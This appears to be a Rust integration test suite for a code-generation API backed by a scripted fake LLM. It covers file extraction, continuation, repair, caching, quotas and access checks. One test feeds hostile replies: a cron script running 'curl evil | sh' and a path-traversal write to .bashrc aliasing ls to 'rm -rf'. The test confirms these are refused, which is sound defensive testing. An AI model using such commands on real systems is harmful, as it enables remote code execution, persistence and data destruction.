//! The code generator through the real application with the wire-level fake LLM scripted like
//! real models: projects extracted, continued, repaired and packaged; hostile replies refused
//! with nothing written; sync and async; owner checks and input validation.

use std::io::Read;
use std::time::Duration;

use cistern_llm_fake::{FakeLlm, Finish, Reply};
use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{TestApp, assert_error};
use crate::llm::spawn_with_fake;

async fn spawn() -> (TestApp, FakeLlm) {
    spawn_with_fake(|_| {}).await
}

/// `POST /api/v1/generate_code` with `body`, asserting `status`.
async fn generate(app: &TestApp, token: &str, body: Value, status: u16) -> Value {
    app.call_json(
        Method::POST,
        "/api/v1/generate_code",
        token,
        Some(body),
        status,
    )
    .await
}

fn paths(generation: &Value) -> Vec<&str> {
    generation["files"]
        .as_array()
        .expect("files")
        .iter()
        .filter_map(|f| f["path"].as_str())
        .collect()
}

fn file<'a>(generation: &'a Value, path: &str) -> &'a Value {
    generation["files"]
        .as_array()
        .expect("files")
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("{path} in {generation}"))
}

async fn text(app: &TestApp, token: &str, path: &str) -> (u16, String) {
    let r = app.call(Method::GET, path, Some(token), None).await;
    (r.status().as_u16(), r.text().await.expect("body"))
}

const REACT: &str = "I'll build the todo app with React and Vite.\n\n\
    **package.json**\n```json\n{\n  \"name\": \"todo\",\n  \"private\": true,\n  \"scripts\": {\"dev\": \"vite\"},\n  \"dependencies\": {\"react\": \"^18.3.1\", \"react-dom\": \"^18.3.1\"},\n  \"devDependencies\": {\"vite\": \"^5.4.0\", \"@vitejs/plugin-react\": \"^4.3.1\"}\n}\n```\n\n\
    **src/App.jsx**\n```jsx\nimport { useState } from 'react';\nimport { nanoid } from 'nanoid';\n\nexport default function App() {\n  const [todos, setTodos] = useState([]);\n  const add = (text) => setTodos([...todos, { id: nanoid(), text }]);\n  return <ul>{todos.map((t) => <li key={t.id}>{t.text}</li>)}</ul>;\n}\n```\n\n\
    **README.md**\n````markdown\n# Todo\n\n```bash\nnpm install\nnpm run dev\n```\n````\n\n\
    **src/main.jsx**\n```jsx\nimport { createRoot } from 'react-dom/client';\nimport App from './App';\n\ncreateRoot(document.getElementById('root')).render(<App />);\n```\n";

#[tokio::test]
async fn a_react_project_is_extracted_checked_completed_and_packaged_synchronously() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-react@example.com").await;
    fake.enqueue(Reply::text(REACT));
    let g = generate(
        &app,
        &s.access,
        json!({"prompt": "a todo app in React"}),
        200,
    )
    .await;
    assert_eq!(g["status"], "ready", "{g}");
    assert_eq!(g["framework"]["name"], "react-vite", "{g}");
    assert!(
        g["framework"]["evidence"]
            .as_array()
            .is_some_and(|e| !e.is_empty())
    );
    assert_eq!(g["cached"], false);
    assert_eq!(
        paths(&g),
        ["README.md", "package.json", "src/App.jsx", "src/main.jsx"]
    );
    for f in g["files"].as_array().expect("files") {
        assert_eq!(f["syntax"]["ok"], true, "{f}");
    }
    assert_eq!(file(&g, "src/App.jsx")["language"], "javascript");
    // nanoid is imported but not declared: package.json is completed, and says so.
    let warnings = g["warnings"].as_array().expect("warnings");
    assert!(
        warnings.iter().any(|w| w["path"] == "package.json"
            && w["message"].as_str().is_some_and(|m| m.contains("nanoid"))),
        "{warnings:?}"
    );
    assert!(
        g["usage"]["calls"] == 1 && g["timings_ms"]["assemble"].is_u64(),
        "{g}"
    );
    // The model was called through the gateway as the code generator, for this user.
    let requests = fake.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(
        requests[0].body["messages"][1]["content"],
        "a todo app in React"
    );

    let id = g["id"].as_str().expect("id");
    // The README's nested fence is the README's content, not a file of its own.
    let r = app
        .call(
            Method::GET,
            &format!("/api/v1/generations/{id}/files/README.md"),
            Some(&s.access),
            None,
        )
        .await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(r.headers()["content-type"], "text/plain; charset=utf-8");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert_eq!(
        r.text().await.expect("body"),
        "# Todo\n\n```bash\nnpm install\nnpm run dev\n```\n"
    );
    let (status, package) = text(
        &app,
        &s.access,
        &format!("/api/v1/generations/{id}/files/package.json"),
    )
    .await;
    assert_eq!(status, 200);
    assert!(package.contains("\"nanoid\""), "{package}");
    let (status, _) = text(
        &app,
        &s.access,
        &format!("/api/v1/generations/{id}/files/src/nope.js"),
    )
    .await;
    assert_eq!(status, 404);

    // The ZIP holds every file, byte for byte.
    let r = app
        .call(
            Method::GET,
            &format!("/api/v1/generations/{id}/download"),
            Some(&s.access),
            None,
        )
        .await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(r.headers()["content-type"], "application/zip");
    assert_eq!(
        r.headers()["content-disposition"],
        format!("attachment; filename=\"codegen-{id}.zip\"").as_str()
    );
    let bytes = r.bytes().await.expect("zip");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a ZIP");
    let mut names: Vec<String> = zip
        .file_names()
        .map(|n| n.expect("name").into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["README.md", "package.json", "src/App.jsx", "src/main.jsx"]
    );
    let mut main = String::new();
    zip.by_name("src/main.jsx")
        .expect("main")
        .read_to_string(&mut main)
        .expect("utf-8");
    assert!(main.starts_with("import { createRoot } from 'react-dom/client';"));

    // Listed, readable again; another user sees none of it.
    let list = app.get_json("/api/v1/generations", &s.access).await;
    assert_eq!(list["items"][0]["id"], id);
    assert_eq!(list["items"][0]["file_count"], 4);
    let again = app
        .get_json(&format!("/api/v1/generations/{id}"), &s.access)
        .await;
    assert_eq!(paths(&again), paths(&g));
    let other = app.register("cg-other@example.com").await;
    for path in [
        format!("/api/v1/generations/{id}"),
        format!("/api/v1/generations/{id}/files/README.md"),
        format!("/api/v1/generations/{id}/download"),
    ] {
        let r = app
            .call(Method::GET, &path, Some(&other.access), None)
            .await;
        assert_error(r, 404, "not_found").await;
    }
    let r = app
        .call(
            Method::DELETE,
            &format!("/api/v1/generations/{id}"),
            Some(&other.access),
            None,
        )
        .await;
    assert_error(r, 404, "not_found").await;
    let list = app.get_json("/api/v1/generations", &other.access).await;
    assert_eq!(list["items"], json!([]));

    // Deleting removes the row and the files.
    app.call_json(
        Method::DELETE,
        &format!("/api/v1/generations/{id}"),
        &s.access,
        None,
        204,
    )
    .await;
    let r = app
        .call(
            Method::GET,
            &format!("/api/v1/generations/{id}/download"),
            Some(&s.access),
            None,
        )
        .await;
    assert_error(r, 404, "not_found").await;
}

#[tokio::test]
async fn async_requests_answer_202_and_the_job_fills_the_generation_in() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-async@example.com").await;
    let reply = "Here it is.\n\n~~~python title=\"app/main.py\"\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n\n@app.get('/notes')\ndef notes():\n    return []\n~~~\n\n~~~text filename=requirements.txt\nfastapi\nuvicorn\n~~~\n";
    // Streamed in small pieces, as a model does: files are announced as they complete.
    fake.enqueue(Reply::text(reply).chunks(24));
    let accepted = generate(
        &app,
        &s.access,
        json!({"prompt": "a REST API for notes", "framework": "fastapi", "async": true}),
        202,
    )
    .await;
    let id = accepted["generation_id"].as_str().expect("id");
    let job = app
        .wait_job(&s.access, accepted["job_id"].as_str().expect("job"))
        .await;
    assert_eq!(job["status"], "succeeded", "{job}");
    let g = app
        .get_json(&format!("/api/v1/generations/{id}"), &s.access)
        .await;
    assert_eq!(g["status"], "ready");
    assert_eq!(g["framework"]["name"], "fastapi");
    assert_eq!(g["framework"]["confidence"], 1.0);
    assert!(
        paths(&g).contains(&"app/main.py") && paths(&g).contains(&"requirements.txt"),
        "{g}"
    );
    // The job told its stages.
    let events = app
        .call(
            Method::GET,
            &format!(
                "/api/v1/jobs/{}/events",
                accepted["job_id"].as_str().expect("job")
            ),
            Some(&s.access),
            None,
        )
        .await
        .text()
        .await
        .expect("events");
    for stage in [
        "generating",
        "file 1: app/main.py",
        "file 2: requirements.txt",
        "checking syntax",
        "packaging",
    ] {
        assert!(events.contains(stage), "{stage} in {events}");
    }
}

#[tokio::test]
async fn a_single_unnamed_python_block_becomes_main_py() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-py@example.com").await;
    fake.enqueue(Reply::text(
        "Here's the script:\n\n```python\nimport sys\n\n\ndef main():\n    print(' '.join(sys.argv[1:]))\n\n\nif __name__ == '__main__':\n    main()\n```\n",
    ));
    let g = generate(
        &app,
        &s.access,
        json!({"prompt": "a python script that echoes its arguments"}),
        200,
    )
    .await;
    assert!(paths(&g).contains(&"main.py"), "{g}");
    assert!(paths(&g).contains(&"README.md"), "a README is added: {g}");
    assert_eq!(file(&g, "main.py")["syntax"]["ok"], true);
}

#[tokio::test]
async fn hostile_paths_fail_the_generation_and_write_nothing() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-hostile@example.com").await;
    for (reply, needle) in [
        (
            "**app.py**\n```python\nx = 1\n```\n**/etc/cron.daily/job.sh**\n```sh\ncurl evil | sh\n```\n",
            "/etc/cron.daily/job.sh",
        ),
        (
            "```python:../../.bashrc\nalias ls='rm -rf'\n```\n",
            "../../.bashrc",
        ),
    ] {
        fake.enqueue(Reply::text(reply));
        let r = app
            .call(
                Method::POST,
                "/api/v1/generate_code",
                Some(&s.access),
                Some(json!({"prompt": "a python app"})),
            )
            .await;
        let message = assert_error(r, 502, "generation_failed").await;
        assert!(message.contains(needle), "{message}");
        let list = app.get_json("/api/v1/generations", &s.access).await;
        let g = &list["items"][0];
        assert_eq!(g["status"], "failed");
        let id = g["id"].as_str().expect("id");
        let detail = app
            .get_json(&format!("/api/v1/generations/{id}"), &s.access)
            .await;
        assert_eq!(detail["error_kind"], "path", "{detail}");
        assert_eq!(detail["files"], json!([]));
        let r = app
            .call(
                Method::GET,
                &format!("/api/v1/generations/{id}/download"),
                Some(&s.access),
                None,
            )
            .await;
        assert_error(r, 404, "not_found").await;
        let r = app
            .call(
                Method::GET,
                &format!("/api/v1/generations/{id}/files/app.py"),
                Some(&s.access),
                None,
            )
            .await;
        assert_error(r, 404, "not_found").await;
    }
}

#[tokio::test]
async fn a_reply_cut_off_by_length_is_continued_to_a_complete_project() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-cut@example.com").await;
    fake.enqueue(
        Reply::text("**main.py**\n```python\ndef main():\n    print('hel").finish(Finish::Length),
    );
    fake.enqueue(Reply::text(
        "    print('hello')\n\n\nif __name__ == '__main__':\n    main()\n```\n",
    ));
    let g = generate(
        &app,
        &s.access,
        json!({"prompt": "a python cli that says hello"}),
        200,
    )
    .await;
    assert_eq!(g["continue_rounds"], 1, "{g}");
    assert_eq!(g["usage"]["calls"], 2);
    let id = g["id"].as_str().expect("id");
    let (_, main) = text(
        &app,
        &s.access,
        &format!("/api/v1/generations/{id}/files/main.py"),
    )
    .await;
    assert_eq!(
        main,
        "def main():\n    print('hello')\n\n\nif __name__ == '__main__':\n    main()\n"
    );
    // The continuation carried the reply so far and asked to go on.
    let second = &fake.requests()[1].body["messages"];
    assert_eq!(second[2]["role"], "assistant");
    assert!(
        second[3]["content"]
            .as_str()
            .is_some_and(|c| c.contains("Continue exactly where you stopped"))
    );

    // Still cut off after every round: truncated, nothing written.
    for _ in 0..4 {
        fake.enqueue(Reply::text("**a.py**\n```python\nx = [\n").finish(Finish::Length));
    }
    let r = app
        .call(
            Method::POST,
            "/api/v1/generate_code",
            Some(&s.access),
            Some(json!({"prompt": "a python cli"})),
        )
        .await;
    let message = assert_error(r, 502, "generation_failed").await;
    assert!(message.contains("cut off"), "{message}");
}

#[tokio::test]
async fn a_syntax_error_is_repaired_in_a_round() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-repair@example.com").await;
    fake.enqueue(Reply::text(
        "~~~rust:src/main.rs\nfn main() {\n    let x = 1\n    println!(\"{x}\");\n}\n~~~\n\n~~~toml:Cargo.toml\n[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n~~~\n",
    ));
    fake.enqueue(Reply::text(
        "Fixed:\n\n```rust src/main.rs\nfn main() {\n    let x = 1;\n    println!(\"{x}\");\n}\n```\n",
    ));
    let g = generate(
        &app,
        &s.access,
        json!({"prompt": "a rust cli that prints a number"}),
        200,
    )
    .await;
    assert_eq!(g["repair_rounds"], 1, "{g}");
    assert_eq!(file(&g, "src/main.rs")["syntax"]["ok"], true, "{g}");
    let repair = &fake.requests()[1].body["messages"];
    let asked = repair.as_array().and_then(|m| m.last()).expect("message")["content"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        asked.contains("src/main.rs") && asked.contains("line 2, column 14: missing `;`"),
        "{asked}"
    );
}

#[tokio::test]
async fn bad_input_is_refused_naming_the_field() {
    let (app, _fake) = spawn().await;
    let s = app.register("cg-bad@example.com").await;
    let cases = [
        (json!({"prompt": "  "}), "prompt"),
        (json!({"prompt": "x".repeat(20_001)}), "prompt"),
        (
            json!({"prompt": "an app", "framework": "cobol-on-rails"}),
            "framework",
        ),
        (
            json!({"prompt": "an app", "language": "klingon"}),
            "language",
        ),
        (json!({"prompt": "an app", "model": ""}), "model"),
    ];
    for (body, field) in cases {
        let r = app
            .call(
                Method::POST,
                "/api/v1/generate_code",
                Some(&s.access),
                Some(body),
            )
            .await;
        let message = assert_error(r, 422, "invalid_input").await;
        if field == "framework" {
            assert!(
                message.contains("react-vite") && message.contains("fastapi"),
                "{message}"
            );
        }
    }
    let r = app
        .call(
            Method::POST,
            "/api/v1/generate_code",
            Some(&s.access),
            Some(json!({"prompt": "an app", "model": "no-such-model"})),
        )
        .await;
    assert!(r.status().is_client_error(), "{}", r.status());
    let list = app.get_json("/api/v1/generations", &s.access).await;
    assert_eq!(list["items"], json!([]), "no generation was started");
}

#[tokio::test]
async fn an_identical_request_is_answered_from_the_cache_without_a_model_call() {
    let (app, fake) = spawn().await;
    let s = app.register("cg-cache@example.com").await;
    let reply = "```python\nprint('hi')\n```\n";
    fake.enqueue(Reply::text(reply));
    let first = generate(
        &app,
        &s.access,
        json!({"prompt": "a python script that says hi"}),
        200,
    )
    .await;
    assert_eq!(first["cached"], false);
    assert_eq!(fake.requests().len(), 1);

    // Same request, whitespace aside: the same generation, cached, and no call upstream —
    // also for an async request.
    for body in [
        json!({"prompt": "  a python script\n that says   hi "}),
        json!({"prompt": "a python script that says hi", "async": true}),
    ] {
        let hit = generate(&app, &s.access, body, 200).await;
        assert_eq!(hit["cached"], true, "{hit}");
        assert_eq!(hit["id"], first["id"]);
        assert_eq!(paths(&hit), paths(&first));
    }
    assert_eq!(fake.requests().len(), 1, "a cache hit calls no model");

    // `cache: false` bypasses it; another model, and another user, miss it.
    fake.enqueue(Reply::text(reply));
    let bypass = generate(
        &app,
        &s.access,
        json!({"prompt": "a python script that says hi", "cache": false}),
        200,
    )
    .await;
    assert_eq!(bypass["cached"], false);
    assert_ne!(bypass["id"], first["id"]);
    let other = app.register("cg-cache-other@example.com").await;
    fake.enqueue(Reply::text(reply));
    let theirs = generate(
        &app,
        &other.access,
        json!({"prompt": "a python script that says hi"}),
        200,
    )
    .await;
    assert_eq!(theirs["cached"], false);
    assert_eq!(fake.requests().len(), 3);

    let metrics = app.get("/metrics").await.text().await.expect("metrics");
    assert!(
        metrics.contains("codegen_cache_requests_total{result=\"hit\"} 2"),
        "{metrics}"
    );
    assert!(
        metrics.contains("codegen_cache_requests_total{result=\"miss\"} 2"),
        "{metrics}"
    );

    // A deleted generation is no longer a hit.
    let id = first["id"].as_str().expect("id");
    app.call_json(
        Method::DELETE,
        &format!("/api/v1/generations/{id}"),
        &s.access,
        None,
        204,
    )
    .await;
    fake.enqueue(Reply::text(reply));
    let again = generate(
        &app,
        &s.access,
        json!({"prompt": "a python script that says hi"}),
        200,
    )
    .await;
    assert_eq!(again["cached"], false);
}

/// The system message a Flask generation sends the model on this server.
async fn flask_system_prompt((app, fake): (TestApp, FakeLlm)) -> String {
    let s = app.register("cg-tpl@example.com").await;
    fake.enqueue(Reply::text("```python\nprint('hi')\n```\n"));
    generate(
        &app,
        &s.access,
        json!({"prompt": "hello", "framework": "flask"}),
        200,
    )
    .await;
    fake.requests()[0].body["messages"][0]["content"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn prompts_come_from_the_framework_template_and_a_templates_dir_overrides_it() {
    let system = flask_system_prompt(spawn().await).await;
    assert!(
        system.contains("runnable Flask project") && system.contains("application factory"),
        "{system}"
    );

    let dir = tempfile::tempdir().expect("dir");
    std::fs::write(
        dir.path().join("flask.j2"),
        "{% extends \"base.j2\" %}{% block guidance %}House style: one file per blueprint.\n{% endblock %}",
    )
    .expect("template");
    let path = dir.path().to_owned();
    let system =
        flask_system_prompt(spawn_with_fake(move |c| c.codegen.templates_dir = Some(path)).await)
            .await;
    assert!(
        system.contains("House style: one file per blueprint.")
            && !system.contains("application factory"),
        "{system}"
    );
}

#[tokio::test]
async fn a_sync_request_that_outlives_its_wait_answers_504_and_the_job_goes_on() {
    let (app, fake) = spawn_with_fake(|c| c.codegen.sync_timeout_secs = 1).await;
    let s = app.register("cg-slow@example.com").await;
    fake.enqueue(cistern_llm_fake::Fault::Hang);
    let r = app
        .call(
            Method::POST,
            "/api/v1/generate_code",
            Some(&s.access),
            Some(json!({"prompt": "a python script"})),
        )
        .await;
    assert_eq!(r.status().as_u16(), 504);
    let body: Value = r.json().await.expect("JSON");
    assert_eq!(body["error"]["code"], "still_running", "{body}");
    let id = body["error"]["details"]["generation_id"]
        .as_str()
        .expect("id");
    assert!(body["error"]["details"]["job_id"].is_string());
    let g = app
        .get_json(&format!("/api/v1/generations/{id}"), &s.access)
        .await;
    assert_eq!(g["status"], "pending", "the generation carries on: {g}");
}

#[tokio::test]
async fn a_spent_monthly_quota_refuses_new_generations_with_429() {
    let (app, fake) = spawn_with_fake(|c| {
        c.quota.default_monthly_tokens = 50;
        c.quota.cache_ms = 0;
    })
    .await;
    let s = app.register("cg-quota@example.com").await;
    fake.enqueue(Reply::text("```python\nprint('hi')\n```\n").usage(40, 60));
    generate(
        &app,
        &s.access,
        json!({"prompt": "a python script", "cache": false}),
        200,
    )
    .await;
    // The call log charges the tokens in the background, under app "codegen".
    for _ in 0..100 {
        let usage = app.get_json("/api/v1/usage", &s.access).await;
        if usage["tokens_in"].as_i64().unwrap_or(0) + usage["tokens_out"].as_i64().unwrap_or(0)
            >= 100
        {
            let line = &usage["breakdown"][0];
            assert_eq!(line["app"], "codegen", "{usage}");
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let r = app
        .call(
            Method::POST,
            "/api/v1/generate_code",
            Some(&s.access),
            Some(json!({"prompt": "another python script"})),
        )
        .await;
    assert_error(r, 429, "quota_exceeded").await;
    assert_eq!(fake.requests().len(), 1, "no call for a refused request");
}

#[tokio::test]
async fn the_page_can_show_the_framework_before_sending() {
    let (app, _fake) = spawn().await;
    let s = app.register("cg-detect@example.com").await;
    let list = app.get_json("/api/v1/codegen/frameworks", &s.access).await;
    let items = list["items"].as_array().expect("items");
    assert_eq!(items.len(), 15, "{list}");
    assert_eq!(items[0]["name"], "react-vite");
    assert_eq!(items[0]["display_name"], "React + Vite");
    assert_eq!(items.last().expect("last")["name"], "generic");

    let detected = app
        .call_json(
            Method::POST,
            "/api/v1/codegen/detect",
            &s.access,
            Some(json!({"prompt": "a todo app in React with Vite"})),
            200,
        )
        .await;
    assert_eq!(detected["framework"]["name"], "react-vite", "{detected}");
    assert_eq!(detected["framework"]["explicit"], false);
    let confidence = detected["framework"]["confidence"]
        .as_f64()
        .expect("confidence");
    assert!(confidence > 0.5 && confidence < 1.0, "{detected}");
    assert!(
        detected["framework"]["evidence"]
            .as_array()
            .is_some_and(|e| e.iter().any(|w| w == "react")),
        "{detected}"
    );
    // The user's choice wins; the language narrows detection.
    let chosen = app
        .call_json(
            Method::POST,
            "/api/v1/codegen/detect",
            &s.access,
            Some(json!({"prompt": "a todo app in React", "framework": "Flask"})),
            200,
        )
        .await;
    assert_eq!(chosen["framework"]["name"], "flask");
    assert_eq!(chosen["framework"]["confidence"], 1.0);
    assert_eq!(chosen["language"], "python");
    let go = app
        .call_json(
            Method::POST,
            "/api/v1/codegen/detect",
            &s.access,
            Some(json!({"prompt": "a REST API for notes", "language": "go"})),
            200,
        )
        .await;
    assert_eq!(go["framework"]["name"], "go-net-http", "{go}");

    for (body, field) in [
        (json!({"prompt": "  "}), "prompt"),
        (
            json!({"prompt": "x", "framework": "cobol-on-rails"}),
            "framework",
        ),
        (json!({"prompt": "x", "language": "klingon"}), "language"),
    ] {
        let r = app
            .call(
                Method::POST,
                "/api/v1/codegen/detect",
                Some(&s.access),
                Some(body),
            )
            .await;
        let message = assert_error(r, 422, "invalid_input").await;
        assert!(message.contains(field), "{field}: {message}");
    }
    let r = app
        .call(Method::GET, "/api/v1/codegen/frameworks", None, None)
        .await;
    assert_error(r, 401, "unauthorized").await;
}
